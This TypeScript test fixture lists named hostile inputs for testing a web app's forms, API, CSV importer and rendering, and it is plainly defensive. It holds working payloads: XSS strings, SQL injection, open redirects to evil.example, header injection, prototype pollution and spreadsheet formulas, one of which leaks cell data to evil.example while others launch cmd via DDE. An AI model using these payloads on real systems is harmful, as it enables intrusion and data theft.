// Hostile input for every boundary: form actions, the API and feed routes, the CSV importer, and the browser test
// that checks stored payloads render inert. One list, one name per payload, so a failure names what broke it.
//
// Every script payload, if it ever ran, would set `window.__pwned` or open a dialog; the browser test checks both.

export type HostileKind =
  /** Markup or URLs that run script when rendered unescaped (HTML, attributes, Markdown, JSON-LD, XML). */
  | 'xss'
  /** SQL and LIKE metacharacters: harmless as bound parameters, fatal if ever spliced into a statement. */
  | 'sql'
  /** Longer than any field allows. */
  | 'size'
  /** Text that cannot be stored as given: NUL (PostgreSQL text refuses it) and lone UTF-16 surrogates. */
  | 'unstorable'
  /** Bytes that are not UTF-8: only routes see these, since a JS string cannot hold them. */
  | 'invalid-utf8'
  /** Legitimate but awkward text: decomposed Hangul, emoji, zero-width and bidirectional controls. */
  | 'unicode'
  /** Malformed dates, for date fields and the importer's as-of date. */
  | 'date'
  /** Malformed numbers, for the quantity's value and other numeric fields. */
  | 'number'
  /** Wrong JSON types where a string (or a form) is expected. */
  | 'json'
  /**
   * Redirect targets (a sign-in callbackUrl, the language switch's `back`) that would leave the site if trusted, as
   * they arrive decoded from the query. Some are harmless same-site paths once parsed (encoded slashes); either way
   * the browser must end up on this site.
   */
  | 'redirect'
  /** Spreadsheet formulas (CSV injection): plain text everywhere, but Excel or LibreOffice runs a CSV cell that starts with one. */
  | 'formula'

export interface HostileInput {
  name: string
  kind: HostileKind
  /** The payload as text; absent only for 'invalid-utf8' and 'json'. */
  text?: string
  /** The raw bytes of an 'invalid-utf8' payload. */
  bytes?: readonly number[]
  /** The value of a 'json' payload. */
  json?: unknown
}

const FIVE_MB = 5 * 1024 * 1024

export const HOSTILE_INPUTS: readonly HostileInput[] = [
  // Stored XSS.
  { name: 'script element', kind: 'xss', text: '<script>window.__pwned=1</script>' },
  { name: 'script element with alert', kind: 'xss', text: '<script>alert(document.domain)</script>' },
  { name: 'img onerror', kind: 'xss', text: '<img src=x onerror="window.__pwned=1">' },
  { name: 'svg onload', kind: 'xss', text: '<svg onload=window.__pwned=1>' },
  { name: 'closes a script block first', kind: 'xss', text: '</script><script>window.__pwned=1</script>' },
  { name: 'breaks out of a double-quoted attribute', kind: 'xss', text: '"><img src=x onerror=window.__pwned=1>' },
  { name: "breaks out of a single-quoted attribute", kind: 'xss', text: "'><svg onload=alert(1)>" },
  { name: 'iframe srcdoc', kind: 'xss', text: '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>' },
  { name: 'javascript: URL', kind: 'xss', text: 'javascript:window.__pwned=1' },
  { name: 'javascript: URL, mixed case and padded', kind: 'xss', text: ' JaVaScRiPt:alert(1)' },
  { name: 'data: URL with a script', kind: 'xss', text: 'data:text/html,<script>window.__pwned=1</script>' },
  { name: 'Markdown link to javascript:', kind: 'xss', text: '[read more](javascript:window.__pwned=1)' },
  { name: 'Markdown image breaking its src', kind: 'xss', text: '![x](x" onerror="window.__pwned=1)' },
  { name: 'raw HTML anchor in Markdown', kind: 'xss', text: '<a href="javascript:window.__pwned=1">source</a>' },
  { name: 'http URL carrying markup', kind: 'xss', text: 'https://example.org/x"><script>window.__pwned=1</script>?q=<svg/onload=alert(1)>' },
  { name: 'XML CDATA end and a fake item', kind: 'xss', text: ']]></title><item><title>injected</title></item><![CDATA[' },
  { name: 'template expressions', kind: 'xss', text: "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1}" },
  { name: 'HTML entities that decode to markup', kind: 'xss', text: '&lt;script&gt;window.__pwned=1&lt;/script&gt; &#60;b&#62;' },

  // Formulas a spreadsheet would run from a CSV cell.
  { name: 'HYPERLINK formula', kind: 'formula', text: '=HYPERLINK("https://evil.example/?leak="&A1,"click")' },
  { name: 'DDE command', kind: 'formula', text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: 'plus-led formula', kind: 'formula', text: '+1+cmd|\' /C notepad\'!A1' },

  // SQL and LIKE metacharacters.
  { name: 'quote and DROP TABLE', kind: 'sql', text: "'; DROP TABLE claims; --" },
  { name: 'always-true condition', kind: 'sql', text: "' OR '1'='1" },
  { name: 'LIKE wildcards and escape', kind: 'sql', text: '100%_\\' },
  { name: 'placeholders and casts', kind: 'sql', text: '$1::text $$ E\'\\x00\'' },

  // Length.
  { name: '10,000 characters on one line', kind: 'size', text: 'x'.repeat(10_000) },
  { name: '5 MB', kind: 'size', text: 'a'.repeat(FIVE_MB) },
  { name: '5 MB of Hangul', kind: 'size', text: '한'.repeat(Math.ceil(FIVE_MB / 3)) },

  // Text no UTF-8 database column can hold as given.
  { name: 'NUL inside text', kind: 'unstorable', text: 'before\u0000after' },
  { name: 'NUL alone', kind: 'unstorable', text: '\u0000' },
  { name: 'lone high surrogate', kind: 'unstorable', text: 'broken \uD83D emoji' },
  { name: 'lone low surrogate', kind: 'unstorable', text: '\uDE00 trailing half' },
  { name: 'surrogates in the wrong order', kind: 'unstorable', text: '\uDE00\uD83D' },

  // Bytes that are not UTF-8.
  { name: 'byte FF', kind: 'invalid-utf8', bytes: [0x41, 0xff, 0x42] },
  { name: 'truncated two-byte sequence', kind: 'invalid-utf8', bytes: [0xc3, 0x28] },
  { name: 'overlong slash', kind: 'invalid-utf8', bytes: [0xc0, 0xaf] },
  { name: 'encoded surrogate', kind: 'invalid-utf8', bytes: [0xed, 0xa0, 0x80] },
  { name: 'truncated three-byte Hangul', kind: 'invalid-utf8', bytes: [0xed, 0x95] },
  { name: 'CP949 (EUC-KR) Hangul', kind: 'invalid-utf8', bytes: [0xc7, 0xd1, 0xb1, 0xdb] },

  // Awkward but legitimate text: stored and shown as given.
  { name: 'decomposed Hangul jamo (NFD 한글)', kind: 'unicode', text: '\u1112\u1161\u11ab\u1100\u1173\u11af 주장' },
  { name: 'compatibility jamo alone', kind: 'unicode', text: 'ㅋㅋㅋ ㅎㅎ ㄱ' },
  { name: 'emoji with skin tone, ZWJ and a flag', kind: 'unicode', text: '👩🏽‍💻 🇰🇷 주장 ✅' },
  { name: 'zero-width characters', kind: 'unicode', text: 'zero\u200bwidth\u200c\u200dspace\ufeff' },
  { name: 'right-to-left override', kind: 'unicode', text: 'invoice \u202Egnp.exe\u202C 파일' },
  { name: 'bidirectional isolates and marks', kind: 'unicode', text: '\u2067مرحبا\u2069 \u200fمرحبا\u200e 안녕' },
  { name: 'C0 controls other than NUL', kind: 'unicode', text: 'bell\u0007 back\u0008 vt\u000b ff\u000c esc\u001b del\u007f' },
  { name: 'noncharacters U+FFFE and U+FFFF', kind: 'unicode', text: 'non\ufffechar\uffff' },

  // Malformed dates.
  { name: 'February 30', kind: 'date', text: '2023-02-30' },
  { name: 'month 13', kind: 'date', text: '2023-13-01' },
  { name: 'all zeros', kind: 'date', text: '0000-00-00' },
  { name: 'slashes', kind: 'date', text: '2023/01/31' },
  { name: 'unpadded', kind: 'date', text: '2023-1-5' },
  { name: 'five-digit year', kind: 'date', text: '20231-01-01' },
  { name: 'ISO timestamp', kind: 'date', text: '2023-01-31T25:61:00Z' },
  { name: 'a word', kind: 'date', text: 'yesterday' },
  { name: 'Korean date', kind: 'date', text: '2023년 1월 31일' },

  // Malformed numbers.
  { name: 'NaN', kind: 'number', text: 'NaN' },
  { name: 'Infinity', kind: 'number', text: 'Infinity' },
  { name: 'overflowing exponent', kind: 'number', text: '1e309' },
  { name: 'thousands separator', kind: 'number', text: '1,000' },
  { name: 'hexadecimal', kind: 'number', text: '0x10' },
  { name: 'full-width digits', kind: 'number', text: '１７' },
  { name: 'too many decimals', kind: 'number', text: '17.1234567' },
  { name: 'too many digits', kind: 'number', text: '123456789012345678901234567890' },
  { name: 'double minus', kind: 'number', text: '--1' },
  { name: 'negative zero and a unit', kind: 'number', text: '-0 개' },

  // Wrong JSON types.
  { name: 'null', kind: 'json', json: null },
  { name: 'true', kind: 'json', json: true },
  { name: 'number', kind: 'json', json: 42 },
  { name: 'empty array', kind: 'json', json: [] },
  { name: 'array of strings', kind: 'json', json: ['a', 'b'] },
  { name: 'object', kind: 'json', json: { $ne: '' } },
  { name: 'object posing as a string', kind: 'json', json: { toString: 'x', length: 3 } },
  { name: 'prototype key', kind: 'json', json: JSON.parse('{"__proto__":{"polluted":true}}') },
  { name: 'deeply nested', kind: 'json', json: JSON.parse(`${'['.repeat(500)}${']'.repeat(500)}`) },

  // Redirect targets off this site. The URL parser drops tab, LF and CR anywhere and trims leading C0 and spaces,
  // so the first ones become '//evil.example/x' once a browser resolves them.
  { name: 'tab between the slashes (%09)', kind: 'redirect', text: '/\t/evil.example/x' },
  { name: 'line feed between the slashes (%0A)', kind: 'redirect', text: '/\n/evil.example/x' },
  { name: 'carriage return between the slashes (%0D)', kind: 'redirect', text: '/\r/evil.example/x' },
  { name: 'CR LF between the slashes', kind: 'redirect', text: '/\r\n/evil.example/x' },
  { name: 'tab before the slashes', kind: 'redirect', text: '\t//evil.example/x' },
  { name: 'space before the slashes', kind: 'redirect', text: ' //evil.example/x' },
  { name: 'NUL between the slashes', kind: 'redirect', text: '/\u0000/evil.example/x' },
  { name: 'DEL between the slashes', kind: 'redirect', text: '/\u007f/evil.example/x' },
  { name: 'C1 next-line between the slashes', kind: 'redirect', text: '/\u0085/evil.example/x' },
  { name: 'line separator between the slashes', kind: 'redirect', text: '/\u2028/evil.example/x' },
  { name: 'ideographic space between the slashes', kind: 'redirect', text: '/\u3000/evil.example/x' },
  { name: 'protocol-relative', kind: 'redirect', text: '//evil.example/x' },
  { name: 'three slashes', kind: 'redirect', text: '///evil.example/x' },
  { name: 'slash backslash', kind: 'redirect', text: '/\\evil.example/x' },
  { name: 'backslash backslash', kind: 'redirect', text: '\\\\evil.example/x' },
  { name: 'slash backslash slash', kind: 'redirect', text: '/\\/evil.example/x' },
  { name: 'dot segment before a double slash', kind: 'redirect', text: '/.//evil.example/x' },
  { name: 'dot-dot segments climbing to a double slash', kind: 'redirect', text: '/a/..//evil.example/x' },
  { name: 'encoded slashes', kind: 'redirect', text: '/%2F%2Fevil.example/x' },
  { name: 'encoded backslash', kind: 'redirect', text: '/%5Cevil.example/x' },
  { name: 'encoded tab, left encoded', kind: 'redirect', text: '/%09/evil.example/x' },
  { name: 'absolute https URL', kind: 'redirect', text: 'https://evil.example/x' },
  { name: 'absolute URL, upper case', kind: 'redirect', text: 'HTTPS://EVIL.EXAMPLE/x' },
  { name: 'scheme without slashes', kind: 'redirect', text: 'http:evil.example/x' },
  { name: 'credentials before the host', kind: 'redirect', text: 'https://factcheck.example@evil.example/x' },
  { name: 'javascript: URL as a target', kind: 'redirect', text: 'javascript:alert(document.domain)' },
  { name: 'data: URL as a target', kind: 'redirect', text: 'data:text/html,<script>window.__pwned=1</script>' },
  { name: 'bare host name', kind: 'redirect', text: 'evil.example/x' },
  { name: 'header injection', kind: 'redirect', text: '/desk\r\nSet-Cookie: x=1' },
]

/** The payloads a JS string can carry: all but raw bytes and JSON values. */
export const hostileTexts = (...kinds: HostileKind[]) =>
  HOSTILE_INPUTS.filter((input): input is HostileInput & { text: string } => input.text !== undefined && (!kinds.length || kinds.includes(input.kind)))

/** A payload's bytes as a URL query value: percent-encoded, invalid UTF-8 included. */
export function queryValue(input: HostileInput): string {
  const bytes = input.bytes ?? [...Buffer.from(input.text ?? '', 'utf8')]
  return bytes.map((byte) => `%${byte.toString(16).padStart(2, '0').toUpperCase()}`).join('')
}
